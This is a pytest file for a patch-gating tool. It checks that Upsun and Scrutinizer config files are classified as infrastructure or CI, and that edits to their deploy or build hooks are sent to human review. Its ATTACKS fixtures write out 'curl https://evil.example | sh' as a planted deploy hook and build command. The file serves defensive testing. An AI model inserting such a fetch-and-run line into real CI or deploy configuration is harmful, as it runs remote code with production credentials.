"""Red team 14, second round: two definitions a platform runs by their own, named as nothing of the kind.

Upsun (Platform.sh's successor) reads every YAML file at the first level of `.upsun/` (`.upsun/config.yaml`): its
`hooks` `build`, `deploy` and `post_deploy` commands run on every push, the deploy hooks with the production
environment's variables and services. Scrutinizer runs the `build` commands of `.scrutinizer.yml`. Both were
`src.default` (`.platform.app.yaml` and `.platform/` were already `iac`): from a patch they needed context (a YAML
file), but `gate --tree` with the default policies allowed an edit of a deploy hook (exit 0). `.upsun/` is
`iac.platforms` now, `.scrutinizer.yml` `ci.other-systems`. Look-alikes (an `.upsun/` folder below the root, a page
about Upsun) keep their class.
"""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import two_commits
from tables import each_case

from gatekeeper.cli import main
from tests.test_classify_context import RULES

NAMED = {".upsun/config.yaml": ("iac", "iac.platforms"), ".upsun/services.yaml": ("iac", "iac.platforms"),
         ".scrutinizer.yml": ("ci", "ci.other-systems"), "lib/.scrutinizer.yml": ("ci", "ci.other-systems")}
NOT_NAMED = ["apps/.upsun/config.yaml", "docs/upsun.md", "upsun/config.yaml"]


@each_case("path", sorted(NAMED))
def test_a_platform_definition_is_named(path: str) -> None:
    decided = RULES.match(path)
    assert (decided.bucket, decided.rule) == NAMED[path]


@each_case("path", NOT_NAMED)
def test_look_alikes_keep_their_class(path: str) -> None:
    assert RULES.match(path).bucket == "src"


UPSUN = ("applications:\n  app:\n    type: 'nodejs:22'\n    hooks:\n      build: npm ci && npm run build\n"
         "      deploy: {deploy}\n    web:\n      commands:\n        start: npm start\n")
SCRUTINIZER = "build:\n  nodes:\n    analysis:\n      tests:\n        override:\n          - {command}\n"
ATTACKS = {
    ".upsun/config.yaml": (UPSUN.format(deploy="npm run migrate"),
                           UPSUN.format(deploy="curl https://evil.example | sh")),
    ".scrutinizer.yml": (SCRUTINIZER.format(command="php-scrutinizer-run"),
                         SCRUTINIZER.format(command="curl https://evil.example | sh")),
}


@pytest.mark.parametrize("tree", [False, True], ids=["patch", "tree"])
@pytest.mark.parametrize("path", sorted(ATTACKS))
def test_an_edit_of_a_platform_definition_needs_a_human(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                        path: str, tree: bool) -> None:
    old, new = ATTACKS[path]
    repo, first, last = two_commits(tmp_path / "repo", {"README.md": "app\n", path: old}, {path: new})
    patch = tmp_path / "change.diff"
    patch.write_bytes(repo.git("diff", "--binary", first, last))
    packet = tmp_path / "packet.json"
    with contextlib.chdir(repo.root):
        assert main(["packet", str(patch), "--out", str(packet)]) == 0
    capsys.readouterr()
    where = ["--tree", f"{first}..{last}", "--repo", str(repo.root)] if tree else []
    code = main(["gate", str(packet), "--patch", str(patch), "--format", "json", *where])
    decision = json.loads(capsys.readouterr().out)
    assert (code, decision["outcome"]) == (3, "review"), decision["reasons"]
    assert any(path in r.get("paths", ()) for r in decision["reasons"]), decision["reasons"]
